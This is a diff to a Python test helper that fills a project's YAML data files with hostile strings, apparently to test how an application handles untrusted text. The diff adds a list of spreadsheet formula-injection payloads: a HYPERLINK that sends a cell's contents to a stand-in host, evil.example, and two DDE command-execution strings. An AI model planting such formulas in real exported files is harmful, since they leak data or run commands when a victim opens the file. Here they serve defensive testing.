@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import json
 import re
+from collections.abc import Iterator, Sequence
+from itertools import cycle
 from pathlib import Path
 from typing import Any
 
@@ -18,8 +20,23 @@ _TABLE = "AVANT\tPENDANT\tAPRES\n\t\t\n"
 _HEADING = {"phase": "avant", "found": "AVANT", "written": HOSTILE}
 
 
-def spoil(data: Path) -> None:
-    """Make every text below ``data`` hostile; the source is then no source."""
+#: What spreadsheets and word processors run, after each way to begin a formula.
+FORMULAS = [
+    f"{lead}{rest}"
+    for lead in ("=", "+", "-", "@", "\t=")
+    for rest in (
+        'HYPERLINK("https://evil.example/?"&A1,"x")',
+        "cmd|' /C evil'!A0",
+        'DDEAUTO c:\\evil "/k"',
+    )
+]
+_texts: Iterator[str] = cycle([HOSTILE])
+
+
+def spoil(data: Path, texts: Sequence[str] = (HOSTILE,)) -> None:
+    """Make every text below ``data`` one of ``texts``, in turn; the source is then no source."""
+    global _texts
+    _texts = cycle(texts)
     for path in (data / "releases").glob("*.yml"):
         path.write_text(_spoilt_lines(path.read_text(encoding="utf-8")), encoding="utf-8")
     for path in data.rglob("*.yml"):
@@ -54,7 +71,7 @@ def _spoilt(value: Any) -> Any:
         return {language: text and _with_places(text) for language, text in value.items()}
     return {
         # The title of a source is in one language.
-        key: HOSTILE if key == "title" and isinstance(child, str) else _spoilt(child)
+        key: next(_texts) if key == "title" and isinstance(child, str) else _spoilt(child)
         for key, child in value.items()
         # Forms are looked for in texts; these are hostile enough.
         if key != "forms"
@@ -63,4 +80,4 @@ def _spoilt(value: Any) -> Any:
 
 def _with_places(text: str) -> str:
     """Keep what the interface's words must fill in."""
-    return " ".join([HOSTILE, *re.findall(r"\{\w+\}", text)])
+    return " ".join([next(_texts), *re.findall(r"\{\w+\}", text)])
